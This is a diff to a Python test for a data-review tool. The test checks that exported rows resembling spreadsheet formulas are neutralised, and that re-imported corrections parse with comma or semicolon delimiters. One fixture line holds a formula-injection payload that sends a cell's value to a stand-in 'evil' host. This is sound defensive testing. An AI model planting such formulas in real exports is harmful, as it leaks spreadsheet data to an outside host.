@@ -320,10 +320,11 @@ def test_a_row_that_looks_like_a_formula_is_exported_harmless_and_corrected_by_i
     review.export([review.Row(id=row_id, given=(label, "b"), text='=HYPERLINK("http://evil?x="&A1)') for row_id in ids], path)
     exported = cells(path.read_text())
     assert not any(is_run(cell) for row in exported for cell in row)
-    with path.open("w", newline="") as file:  # as a spreadsheet saves what somebody filled in
-        csv.writer(file).writerows([exported[0], *([row[0], row[2], *row[2:]] for row in exported[1:])])
-    corrected = corrections.apply([Example(row_id, "a", ("b",)) for row_id in ids], path, (label,))
-    assert [example.labels for example in corrected.examples] == [(label, "b")] * 4
+    for delimiter in ",;":
+        with path.open("w", newline="", encoding="utf-8-sig") as file:  # as a spreadsheet saves what somebody filled in
+            csv.writer(file, delimiter=delimiter).writerows([exported[0], *([row[0], row[2], *row[2:]] for row in exported[1:])])
+        corrected = corrections.apply([Example(row_id, "a", ("b",)) for row_id in ids], path, (label,))
+        assert [example.labels for example in corrected.examples] == [(label, "b")] * 4
 
 
 # Settings
